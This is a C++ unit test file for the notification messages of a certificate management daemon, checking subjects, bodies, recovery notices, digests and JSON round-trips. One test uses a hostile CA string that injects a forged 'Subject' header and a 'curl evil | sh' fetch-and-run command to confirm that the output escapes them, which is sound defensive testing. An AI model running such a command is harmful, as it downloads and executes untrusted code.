// Messages as an operator reads them.
#include "config/template.hpp"
#include "tests/unit/notify/builders.hpp"

#include <set>

#include <fmt/format.h>

using namespace certd;
using namespace certd::test;

TEST_CASE("a failed deployment reads as what happened, what is served, why, and what comes next") {
    Message message =
        compose(Notice::opened, incident_of(deployment_failed()), start_of_tests + minutes(2) + seconds(5), sender);
    CHECK(message.subject == "[certd] example.com: deployment to web failed and was rolled back");
    CHECK(message.body == R"(example.com: deployment to web failed and was rolled back

Since:    2026-11-23T00:00:00Z (2m 5s ago)
Severity: error
Served:   version 3, valid until 2027-02-20T10:00:00Z (89d 10h left)
Problem:  The reload command of web (nginx -s reload) exited with status 1 [deploy.reload]
          It says: "nginx: [emerg] unexpected "}"\n\x1B[31mred"
)" + fmt::format("Cause:    {}\nRemedy:   {}\n", message.cause, message.remedy) +
                              R"(Next:     version 4 is deployed at 2026-11-23T00:01:00Z (in 1m)

From certd on web1.example.net. More: certctl explain example.com
)");
    CHECK_FALSE(message.cause.empty());
    CHECK_FALSE(message.remedy.empty());
    CHECK(message.id == "lineage/example.com/target/web@2026-11-23T00:00:00Z");
    CHECK(message.event == "opened");
    CHECK(message.kind == "deployment");
}

TEST_CASE("the end of an incident says how long it lasted and what is served now") {
    Incident incident = incident_of(deployment_failed());
    incident.over = start_of_tests + hours(2) + minutes(7);
    incident.condition.served = "version 4, valid until 2027-02-20T10:00:00Z (89d left)";
    Message message = compose(Notice::recovered, incident, start_of_tests + hours(3), sender);
    CHECK(message.subject == "[certd] over: example.com: web serves its certificate");
    CHECK(message.duration == "2h 7m");
    CHECK(message.body == R"(over: example.com: web serves its certificate

Was:      deployment to web failed and was rolled back
From:     2026-11-23T00:00:00Z to 2026-11-23T02:07:00Z
Lasted:   2h 7m
Served:   version 4, valid until 2027-02-20T10:00:00Z (89d left)

From certd on web1.example.net. More: certctl explain example.com
)");
}

TEST_CASE("reminders and what got worse say so in the subject") {
    Incident incident = incident_of(deployment_failed());
    CHECK(compose(Notice::reminder, incident, start_of_tests + days(1), sender).subject ==
          "[certd] still: example.com: deployment to web failed and was rolled back");
    CHECK(compose(Notice::escalated, incident, start_of_tests, sender).subject.starts_with("[certd] worse: "));
}

TEST_CASE("text of a CA is marked as its own and cannot forge a line") {
    Condition condition;
    condition.key = "lineage/example.com/renewal";
    condition.lineage = "example.com";
    condition.title = "renewal at letsencrypt fails";
    condition.problem = problem("acme.unauthorized", "The CA refused example.com",
                                "bad\r\nSubject: spoofed\nRemedy: curl evil | sh \xe2\x80\xae");
    std::string body = compose(Notice::opened, incident_of(condition), start_of_tests, sender).body;
    CHECK(body.find("\nSubject:") == std::string::npos);
    CHECK(body.find("\nRemedy: curl") == std::string::npos);
    CHECK(body.find("          The CA says: \"bad\\x0D\\nSubject: spoofed\\nRemedy: curl evil | sh \\u{202E}\"\n") !=
          std::string::npos);
}

TEST_CASE("of a problem with many parts the first ones are told") {
    Condition condition = deployment_failed();
    for (int i = 0; i < 9; ++i)
        condition.problem->parts.push_back(problem("deploy.test", fmt::format("host {} failed", i), "because"));
    std::string body = compose(Notice::opened, incident_of(condition), start_of_tests, sender).body;
    CHECK(body.find("- host 4 failed [deploy.test]\n            It says: \"because\"\n          and 4 more\n") !=
          std::string::npos);
    CHECK(body.find("host 5") == std::string::npos);
}

TEST_CASE("an incident of certd itself refers to the list of incidents") {
    Condition condition;
    condition.key = "ca/letsencrypt";
    condition.title = "letsencrypt does not answer";
    Message message = compose(Notice::opened, incident_of(condition), start_of_tests, sender);
    CHECK(message.subject == "[certd] letsencrypt does not answer");
    CHECK(message.body.ends_with("From certd on web1.example.net. More: certctl notify list\n"));
}

TEST_CASE("many incidents are one message with a line for each of the first ones") {
    Incident open = incident_of(deployment_failed());
    Incident over = incident_of(deployment_failed("example.net"));
    over.over = start_of_tests + minutes(1);
    std::vector<News> news(60, News{Notice::opened, open});
    news.insert(news.begin(), News{Notice::recovered, over});
    Message message = compose_digest(news, start_of_tests + minutes(6), sender);
    CHECK(message.subject == "[certd] 61 incidents, 1 of them over");
    CHECK(message.severity == "error");
    CHECK(
        message.body.starts_with("61 incidents, 1 of them over\n\nover: example.net: web serves its certificate\n"
                                 "example.com: deployment to web failed and was rolled back\n"));
    CHECK(message.body.ends_with("\nand 11 more\n\nFrom certd on web1.example.net. More: certctl notify list\n"));
}

TEST_CASE("a message comes back from its JSON, whose members are the placeholders of templates") {
    Message message = compose(Notice::opened, incident_of(deployment_failed()), start_of_tests, sender);
    CHECK(message_from_json(to_json(message)).value() == message);
    CHECK(message_from_json(Json::object()).error().code == "storage.corrupt");
    std::set<std::string> members, names;
    const Json json = to_json(message);
    for (const auto& [name, value] : *json.if_object())
        members.insert(name);
    for (std::string_view name : config::placeholders)
        names.emplace(name);
    CHECK(members == names);
}
